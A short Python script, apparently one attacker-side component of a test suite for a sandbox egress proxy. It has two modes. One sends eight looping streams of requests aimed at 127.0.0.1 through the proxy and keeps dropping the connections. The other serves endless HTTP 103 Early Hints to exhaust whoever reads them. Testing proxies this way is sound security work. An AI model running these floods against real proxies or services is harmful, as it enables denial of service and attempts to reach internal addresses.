"""Part of the attacks that runs in the attacker's sandbox.

Usage: inside.py egress PORT   calls the host at PORT through the egress proxy; each of eight callers disconnects
       inside.py preview       listens at port 8103 and answers 103 without end
"""

import os
import socket
import sys
import threading
import time
from urllib.parse import urlsplit

HINTS = b"HTTP/1.1 103 Early Hints\r\nLink: </a>; rel=preload\r\n\r\n" * 256


def egress(port):
    proxy = urlsplit(os.environ["HTTP_PROXY"])
    call = f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
    for _ in range(8):
        threading.Thread(target=ask, args=((proxy.hostname, proxy.port), call), daemon=True).start()
    threading.Event().wait()


def ask(proxy, call):
    while True:
        try:
            with socket.create_connection(proxy, timeout=5) as client:
                client.sendall(call)
                time.sleep(0.2)
        except OSError:
            time.sleep(0.2)


def preview():
    listener = socket.create_server(("127.0.0.1", 8103), backlog=256)
    while True:
        client, _ = listener.accept()
        threading.Thread(target=hint, args=(client,), daemon=True).start()


def hint(client):
    try:
        while True:
            client.sendall(HINTS)
    except OSError:
        client.close()


egress(int(sys.argv[2])) if sys.argv[1] == "egress" else preview()
